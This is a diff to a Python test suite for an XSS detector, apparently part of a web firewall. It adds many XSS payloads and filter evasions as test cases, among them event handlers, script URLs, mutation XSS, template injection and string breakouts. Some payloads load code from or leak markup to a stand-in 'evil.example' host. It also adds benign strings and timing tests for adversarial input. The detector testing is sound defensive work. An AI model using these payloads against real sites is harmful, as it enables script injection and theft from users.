@@ -78,6 +78,102 @@ ATTACKS = [
         '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>',
         "xss-xml-external-entity",
     ),
+    # Handlers in any element, custom or unknown, with odd separators.
+    ("custom-element-handler", "<custom-el onpointerenter=alert(1)>", "xss-event-handler"),
+    ("handler-form-feed", "<svg%0Conload=alert(1)>", "xss-event-handler"),
+    ("details-ontoggle", "<details open ontoggle=alert(1)>", "xss-event-handler"),
+    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x>", "xss-event-handler"),
+    # An unknown on* name turned into an attribute by a quote, or by leading whitespace.
+    ("quote-handler", '" onxyzzy=alert(1) "', "xss-quote-handler"),
+    ("quote-handler-slash", "'/onfoobar=top['al'+'ert'](1)//", "xss-quote-handler"),
+    ("quote-handler-encoded", "%22%20oncustomthing%3D%22alert(1)", "xss-quote-handler"),
+    ("quote-handler-entity", "&quot; onsomething=location=name", "xss-quote-handler"),
+    ("handler-leading-space", "%20%20onabcdefgh%3d%20", "xss-quote-handler"),
+    # Raw-text elements: mutation XSS and breakouts of <title> and <textarea>.
+    ("noscript", '<noscript><p title="</noscript><img src=x>">', "xss-rawtext-breakout"),
+    ("noscript-odd-end", "<noscript#", "xss-rawtext-breakout"),
+    ("noembed-encoded", "%3Cnoembed%3E", "xss-rawtext-breakout"),
+    ("xmp-entities", "&lt;/xmp&gt;", "xss-rawtext-breakout"),
+    ("title-breakout", "</title><b>x</b>", "xss-rawtext-breakout"),
+    ("textarea-breakout-quoted", '"></textarea><i>', "xss-rawtext-breakout"),
+    ("title-breakout-escaped", "\\u003c/title\\u003e", "xss-rawtext-breakout"),
+    # Closing the comment or CDATA section the value is reflected into.
+    ("comment-close", "-->", "xss-comment-breakout"),
+    ("comment-close-encoded", "--%3E", "xss-comment-breakout"),
+    ("comment-close-bang", '"--!><b>', "xss-comment-breakout"),
+    ("comment-close-entity", "x=&quot;--&gt;", "xss-comment-breakout"),
+    ("cdata-close", "]]><x>", "xss-comment-breakout"),
+    ("comment-then-script", "--><script>alert(1)</script>", "xss-script-tag"),
+    # Tags left open: attribute takeover and dangling markup.
+    ("unclosed-tag", '<a href="test"', "xss-dangling-tag"),
+    ("unclosed-tag-encoded", "%3Ca%20href%3D%22test%22", "xss-dangling-tag"),
+    ("dangling-markup", "\"><img src='//evil.example/?", "xss-dangling-tag"),
+    ("dangling-markup-entities", "&lt;img src=&#39;//evil.example/?", "xss-dangling-tag"),
+    # Form controls that act on their own.
+    ("input-autofocus", "<input autofocus onfocus=alert(1)>", "xss-form-control"),
+    ("input-pattern", '<input pattern="^a regex$">', "xss-form-control"),
+    ("button-formaction-encoded", "%3Cbutton%20form=x%20formaction=//evil%3E", "xss-form-control"),
+    ("form-action", "<form action=//evil.example><input name=password>", "xss-form-control"),
+    ("isindex", "&lt;isindex&gt;", "xss-form-control"),
+    # Internet Explorer's quote-and-"in" filter evasions.
+    ("ie-in-valueof", '"in \\u0076\\u0061l\\u0075e\\u004F\\u0066=', "xss-ie-in-operator"),
+    ("ie-in-location", "%22in%20location%3D", "xss-ie-in-operator"),
+    ("ie-in-property", "'  infoo.bar=", "xss-ie-in-operator"),
+    ("ie-in-xml-entity", 'probe="&quot;in name=">', "xss-ie-in-operator"),
+    # High-bit (US-ASCII) markup, including the UTF-8 lead bytes of "¼" and "¾".
+    (
+        "high-bit-harmless-tag",
+        "\\xbctest\\xbetest(\\xa2XSS\\xa2)\\xbc/test\\xbe",
+        "xss-high-bit-markup",
+    ),
+    ("high-bit-utf8", "\\xc2\\xbcscript\\xc2\\xbealert(1)", "xss-script-tag"),
+    ("high-bit-cyrillic-lead", "\\xd0\\xbcscript\\xd0\\xbealert(1)", "xss-script-tag"),
+    # Script URLs in any URL attribute, entity- and whitespace-obfuscated.
+    (
+        "js-url-decimal-entities",
+        '<a href="&#106;&#97;&#118;&#97;script:alert(1)">',
+        "xss-script-url",
+    ),
+    ("js-url-padded-entities", '<a href="&#0000106avascript:alert(1)">', "xss-script-url"),
+    ("js-url-newline-named", '<a href="java&NewLine;script:alert(1)">', "xss-script-url"),
+    ("js-url-colon-hex", '<a href="javascript&#x3A;alert(1)">', "xss-script-url"),
+    ("js-url-form-action", '<form action="javascript:alert(1)">', "xss-script-url"),
+    ("js-url-poster", "<video poster=javascript:alert(1)//>", "xss-script-url"),
+    # Mutation XSS shapes.
+    (
+        "mxss-mglyph",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "xss-event-handler",
+    ),
+    (
+        "mxss-svg-style",
+        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+        "xss-embedding-tag",
+    ),
+    # Client-side templates reaching globals or dialogs.
+    ("template-global", "{{window.alert(1)}}", "xss-template-injection"),
+    ("template-self", "{{ self.alert(1) }}", "xss-template-injection"),
+    (
+        "template-default-view",
+        "{{$el.ownerDocument.defaultView.alert(1)}}",
+        "xss-template-injection",
+    ),
+    ("template-entities", "&#123;&#123;alert(1)&#125;&#125;", "xss-template-injection"),
+    ("new-function-tagged", "new Function`alert\\`1\\``", "xss-tagged-template"),
+    # JavaScript after breaking out of a string, in the spellings filters miss.
+    ("js-string-minus", "'-alert(1)-'", "xss-js-call-code"),
+    ("js-string-times-encoded", "%22*prompt(1)*%22", "xss-js-call-code"),
+    ("js-string-semicolon", "';alert(1)//", "xss-js-call-code"),
+    ("js-template-literal", "${alert(1)}", "xss-js-call-code"),
+    ("js-optional-call", "alert?.(1)", "xss-js-call-code"),
+    ("js-parenthesized", "(alert)(1)", "xss-js-call-code"),
+    ("js-assigned-in-parens", "'(z=alert)(1)'", "xss-js-call-code"),
+    ("js-global-member", "';top.alert(1)//", "xss-js-call-code"),
+    ("js-function-reference", "'-[1].map(alert)-'", "xss-js-call-code"),
+    ("js-dynamic-import", "';import('//evil.example/x.js')//", "xss-js-call-code"),
+    ("js-eval-atob", "eval(atob('YWxlcnQoMSk='))", "xss-js-call-code"),
+    ("js-eval-atob-escaped", "\\x65val(atob(`YWxlcnQoMSk=`))", "xss-js-call-code"),
+    ("script-close-open", "</script><script>alert(1)</script>", "xss-script-tag"),
 ]
 
 
@@ -109,12 +205,39 @@ BENIGN = [
     ("json-like", '{"a": [1, 2, 3], "b": {"c": null}}'),
     ("data-image", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE="),
     ("base64-onload-ish", "MIAGCSqGSIb3DQonabcdefgh=HIJAoGBAM"),
+    ("hearts", "<3 <3 <3"),
+    ("emails", "Contact: <bob@example.com>, <alice@example.org>"),
+    ("arrows-in-prose", "A --> B --> C, then step one --> step two"),
+    ("html-comment", "<!-- note --> text"),
+    ("generics", "List<String> names = new ArrayList<>();"),
+    ("code-comparison", "if (a < b && c > d) { return x; }"),
+    ("arrow-function", "a => a * 2; score >= 90 ? 'A' : 'B'"),
+    ("template-literal-prose", "Hello ${name}, your total is ${total}"),
+    ("template-filters", "{{ user.name | upper }} {{#each items}}{{this}}{{/each}}"),
+    ("harmless-list", "<ul><li>one</li><li>two</li></ul>"),
+    ("closed-link", '<a href="https://example.com">x</a>'),
+    ("title-in-prose", "The </title> tag closes the title"),
+    ("input-in-prose", 'Use <input type="text"> for text'),
+    ("math-with-quotes", 'x <y and z = "w"'),
+    ("quoted-file-name", '"index.html=1"'),
+    ("quoted-words-and-minus", "I said 'no' - eval (x) later"),
+    ("quoted-then-on-word", 'filter: "status" ongoing=1'),
+    ("recipe-fractions", "\u00bc cup flour, \u00be cup sugar"),
+    ("print-call", "see window.print()"),
 ]
 
 
 @pytest.mark.parametrize("text", [t for _, t in BENIGN], ids=[i for i, _ in BENIGN])
 def test_benign_text_does_not_match_at_paranoia_1(text: str) -> None:
     assert rules(text) == set()
+
+
+def test_comment_markers_block_only_where_they_close_a_comment() -> None:
+    # An arrow between words is prose; the marker alone, or after a quote, ends a comment.
+    assert rules("first --> second") == set()
+    assert rules("-->") == {"xss-comment-breakout"}
+    assert rules("'-->") == {"xss-comment-breakout"}
+    assert "xss-html-comment" in rules("first --> second", 3)
 
 
 def test_harmless_markup_matches_only_from_paranoia_3() -> None:
@@ -174,14 +297,36 @@ def test_never_raises_and_is_deterministic(text: str, paranoia: int) -> None:
         "{{" * 32768,
         "%3C" * 21000,
         "\\xbc" * 16000,
+        "\\xbca" * 13000,
+        '" onx=' * 9000,
+        "<x " + 'a="b" ' * 10000,
+        "-->" * 21000,
+        "{{" + "a." * 32000,
+        "'-" * 32000,
     ],
-    ids=["angles", "attributes", "entities", "scheme-words", "braces", "percent", "high-bit"],
+    ids=[
+        "angles",
+        "attributes",
+        "entities",
+        "scheme-words",
+        "braces",
+        "percent",
+        "high-bit",
+        "high-bit-tags",
+        "quote-handlers",
+        "open-tag",
+        "comment-ends",
+        "template-path",
+        "string-breakouts",
+    ],
 )
 def test_adversarial_64k_input_completes(text: str) -> None:
     started = time.perf_counter()
     detect_xss(Normalized(text), QUERY, 4)
     elapsed = time.perf_counter() - started
     print(f"xss 64 KiB adversarial: {elapsed * 1000:.1f} ms")
+    # Linear-time matching takes milliseconds here; a backtracking pattern would take minutes.
+    assert elapsed < 2.0
 
 
 def test_utf7_markup_is_decoded_without_a_regex_callback() -> None:
